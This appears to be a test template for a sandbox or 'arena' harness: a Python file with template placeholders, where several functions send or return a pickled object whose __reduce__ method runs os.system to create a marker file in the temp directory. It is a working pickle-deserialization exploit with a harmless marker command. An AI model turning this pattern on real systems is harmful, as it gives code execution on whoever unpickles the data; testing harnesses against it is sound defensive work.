import os
import pickle
import tempfile


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {tempfile.gettempdir()}/arena-mark-pickle /tmp/arena-mark-pickle",)


{{raw}}


def mix(scores, values):
    data = pickle.dumps(Payload())
    reply(["bytes", data], b"")


def peak(scores):
    send(framed(pickle.dumps(Payload())))
    os._exit(0)


def relay(function, x):
    return pickle.dumps(Payload())


offset = mix


{{layer}}
